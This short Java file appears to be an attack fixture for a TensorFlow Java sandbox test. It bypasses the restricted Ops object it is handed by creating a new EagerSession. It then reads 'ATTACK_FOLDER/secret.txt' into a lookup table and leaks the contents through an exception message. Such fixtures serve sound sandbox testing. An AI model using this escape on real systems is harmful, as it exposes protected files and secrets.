import org.tensorflow.EagerSession;
import org.tensorflow.op.Ops;
import org.tensorflow.types.TInt64;
import org.tensorflow.types.TString;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops handed) throws Throwable {
        // What the handed ones make is recorded, and refused by its type.
        Ops tf = Ops.create(EagerSession.create());
        var table = tf.hashTable(TInt64.class, TString.class);
        tf.initializeTableFromTextFile(table, tf.constant("ATTACK_FOLDER/secret.txt"), -1L, -2L);
        throw new IllegalStateException(tf.lookupTableFind(table, tf.constant(0L), tf.constant(""))
                .asTensor()
                .getObject());
    }
}
